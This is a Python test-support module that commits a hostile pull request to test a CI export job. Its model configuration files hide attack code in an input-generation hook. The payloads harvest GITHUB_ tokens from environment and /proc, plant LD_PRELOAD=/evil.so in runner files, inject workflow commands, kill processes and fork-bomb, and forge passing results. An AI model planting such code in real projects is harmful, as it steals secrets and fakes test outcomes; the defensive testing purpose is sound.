"""A pull request whose configuration files attack the job they are checked in, one way each.

Each model is Heron under another name; its attack runs while the case's inputs are made, inside the case's process. The
scripts know what an attacker can find out: where the runner keeps its files (`TEMP` stands for RUNNER_TEMP).
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from support.repositories import commit, git
from transformers_export.cases.evidence import ALWAYS

if TYPE_CHECKING:
    from pathlib import Path

    from support.repositories import Repository

SENTENCE = "the attack is over:"
"""Starts the error of an attack that ends by saying what it achieved."""

ATTACKS = {
    "thief": """
        seen = os.environ.items()
        found = [f"{name}={value}" for name, value in seen if "token-of" in value or name.startswith("GITHUB_")]
        for file in pathlib.Path("/proc").glob("[0-9]*/environ"):
            try:
                text = file.read_bytes()
            except OSError:
                continue
            found += [word.decode(errors="replace") for word in text.split(b"\\0") if b"token-of-the" in word]
        raise RuntimeError(f"the attack is over: {found}")
    """,
    "writer": """
        wrote = []
        temp = pathlib.Path(TEMP)
        for file in [*temp.glob("_runner_file_commands/*"), *temp.glob("export-action.*/*.json")]:
            try:
                file.write_text("failed=0\\nLD_PRELOAD=/evil.so\\n")
                wrote.append(file.name)
            except OSError:
                pass
        raise RuntimeError(f"the attack is over: {wrote}")
    """,
    "killer": """
        parent = os.getppid()
        server = int(pathlib.Path(f"/proc/{parent}/stat").read_text().rpartition(")")[2].split()[1])
        for pid in (parent, server):
            if pid > 0:
                os.kill(pid, signal.SIGKILL)
        time.sleep(2)
        raise RuntimeError("the attack is over: []")
    """,
    "forker": """
        signal.alarm(30)  # the test's own bound, should ours not hold
        for _ in range(10):
            os.fork()
        time.sleep(60)
    """,
    "escaper": """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "4243.1"])
            os._exit(0)
        os.wait()
    """,
    "hoarder": "hoard = bytearray(100 * 2**30)",
    "sleeper": "time.sleep(24 * 60 * 60)",
    "talker": """
        for line in ("::set-output name=failed::0", "::add-path::/evil", "::stop-commands::x", "::error::forged"):
            os.write(1, f"\\n{line}\\n".encode())
            os.write(2, f"\\n{line}\\n".encode())
        raise RuntimeError("the attack is over: \\n::error::forged | @octocat #1 <img src=x> --> \\x1b[31m\\u202e ```")
    """,
    "forger": """
        message = json.dumps({"type": "finished", "id": 0, "exit_code": 0, "signal": None}).encode() + b"\\n"
        for number in range(3, 64):
            try:
                os.write(number, message)
            except OSError:
                pass
        for folder in pathlib.Path("..").resolve().parent.glob("case-*"):
            try:
                (folder / "result.json").write_text('{"outcome": "passed"}')
            except OSError:
                pass
        os._exit(0)
    """,
}
"""Model name -> what its configuration does."""

_FORGED = """
        checks = [{"name": n, "outcome": "passed", "figure": 0.1, "limit": 1.0} for n in CHECKS.split()]
        forged = {"model_type": "m", "feature": "f", "target": "onnx", "exporter": "legacy", "outcome": "passed"}
        forged |= {"checks": checks, "max_difference": 1e-7, "tolerance": 1e-5, "opset": 18, "nodes": 50, "bytes": 1000}
        forged = json.dumps(forged).encode()
""".replace("CHECKS", repr(" ".join(ALWAYS["onnx"])))

LIES = {
    "honest": 'raise RuntimeError("this model cannot be exported")',
    "liar": _FORGED
    + """
        pathlib.Path("../result.json").write_bytes(forged)
        os._exit(0)
    """,
    "patcher": _FORGED
    + """
        import transformers_export.cases.child as child
        child.encode_result = lambda result: forged
        raise RuntimeError("this model cannot be exported")
    """,
    "tracer": _FORGED
    + """
        import ctypes
        import sys

        def trace(frame, event, arg):
            if frame.f_code.co_name == "_write" and "data" in frame.f_locals:
                frame.f_locals["data"] = forged
                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
            return trace

        sys.settrace(trace)
        raise RuntimeError("this model cannot be exported")
    """,
    "exiter": _FORGED
    + """
        import atexit
        atexit.register(lambda: pathlib.Path("../result.json").write_bytes(forged))
        raise RuntimeError("this model cannot be exported")
    """,
    "piper": """
        for number in range(64):
            for id in range(8):
                message = json.dumps({"type": "finished", "id": id, "exit_code": 0, "signal": None}).encode() + b"\\n"
                try:
                    os.write(number, message)
                except OSError:
                    pass
        raise RuntimeError("this model cannot be exported")
    """,
    "neighbour": _FORGED
    + """
        for folder in pathlib.Path("../..").resolve().glob("case-*"):
            try:
                (folder / "result.json").write_bytes(forged)
            except OSError:
                pass
        raise RuntimeError("this model cannot be exported")
    """,
}
"""Ways to turn a case that fails green."""

_FILE = '''"""{title} is Heron, and attacks."""

import json
import os
import pathlib
import signal
import time

from ..heron import HeronConfig, HeronModel, HeronOnnxConfig

TEMP = {temp!r}


class {title}Config(HeronConfig):
    model_type = "acme_{name}"


class {title}Model(HeronModel):
    config_class = {title}Config


class {title}OnnxConfig(HeronOnnxConfig):
    def generate_dummy_inputs(self, *args, **kwargs):
        {body}
        return super().generate_dummy_inputs(*args, **kwargs)
'''
_REGISTER = """
FeaturesManager.register("acme-{name}", "default", onnx_config="acme_models.{name}.{title}OnnxConfig")
"""
_PACKAGE = """
from .{name} import {title}Config, {title}Model, {title}OnnxConfig

AutoConfig.register("acme_{name}", {title}Config)
AutoModel.register({title}Config, {title}Model)
"""


def pull_request(repository: Repository, temp: Path, attacks: dict[str, str] = ATTACKS) -> str:
    """Commit the attacks on a branch of the example, beside Heron itself; returns the commit."""
    root = repository.root
    git(root, "checkout", "--quiet", "-b", "attacks", "main")
    package = root / "src" / "acme_models"
    heron = package / "heron" / "configuration_heron.py"
    heron.write_text(heron.read_text(encoding="utf-8") + "\n# changed\n", encoding="utf-8")
    matrix = root / "tests" / "onnx" / "test_onnx_v2.py"
    for name, body in attacks.items():
        names = {"name": name, "title": name.title()}
        (package / name).mkdir()
        code = _FILE.format(**names, temp=str(temp), body=body.strip())
        (package / name / f"configuration_{name}.py").write_text(code, encoding="utf-8")
        exported = "{title}Config, {title}Model, {title}OnnxConfig".format(**names)
        text = f"from .configuration_{name} import {exported}\n\n__all__ = {exported.split(', ')!r}\n"
        (package / name / "__init__.py").write_text(text, encoding="utf-8")
        for file, added in ((package / "onnx" / "features.py", _REGISTER), (package / "__init__.py", _PACKAGE)):
            file.write_text(file.read_text(encoding="utf-8") + added.format(**names), encoding="utf-8")
        entry = f'    ("acme-{name}", "acme/{name}"),\n}}\n\nPYTORCH_EXPORT_WITH_PAST'
        listed = matrix.read_text(encoding="utf-8").replace("}\n\nPYTORCH_EXPORT_WITH_PAST", entry, 1)
        matrix.write_text(listed, encoding="utf-8")
    return commit(root, "Attack the job")
